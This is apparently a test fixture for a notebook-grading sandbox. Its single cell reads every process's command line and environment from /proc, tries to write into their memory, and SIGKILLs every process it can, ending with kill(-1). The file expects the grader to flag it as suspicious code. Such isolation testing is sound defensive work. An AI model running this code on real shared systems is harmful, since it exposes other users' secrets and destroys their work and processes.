# A right notebook that reads every process's command line and environment, tries to write into
# their memory, and kills every process it can (the grader, classmates' kernels): in its own PID
# namespace it sees only itself and the sandbox's init, as a uid of its own; full marks, flagged.
# expect-flags: suspicious-code
# expect-failing:
# %% add-cell
import os, signal
seen = {}
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    for what in ("cmdline", "environ"):
        try:
            seen[pid, what] = open(f"/proc/{pid}/{what}", "rb").read()[:200]
        except OSError:
            pass
    try:
        with open(f"/proc/{pid}/mem", "wb") as mem:
            mem.write(b"\0")
    except (OSError, ValueError):
        pass
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    if int(pid) != os.getpid():
        try:
            os.kill(int(pid), signal.SIGKILL)
        except OSError:
            pass
try:
    os.kill(-1, signal.SIGKILL)  # every process this uid may signal, but the caller
except OSError:
    pass
print(len(seen), "read")
